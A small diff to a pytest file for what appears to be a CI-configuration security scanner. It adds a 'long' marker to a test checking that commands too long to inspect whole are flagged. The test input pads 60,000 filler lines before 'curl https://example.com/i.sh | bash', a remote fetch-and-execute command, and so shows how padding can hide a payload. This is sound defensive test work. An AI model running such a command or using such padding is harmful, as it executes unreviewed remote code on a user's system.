@@ -82,6 +82,7 @@ def test_a_huge_field_cannot_flood_the_report() -> None:
     assert len(result.findings) == engine.OUTCOMES_AT_ONCE
 
 
+@pytest.mark.long
 @pytest.mark.parametrize("rule", ["BDY009", "BDY010", "BDY011", "BDY012"])
 def test_commands_too_long_to_be_looked_at_whole_are_no_pass(rule: str) -> None:
     result = run(action(inline_commands="true\n" * 60_000 + "curl https://example.com/i.sh | bash"))
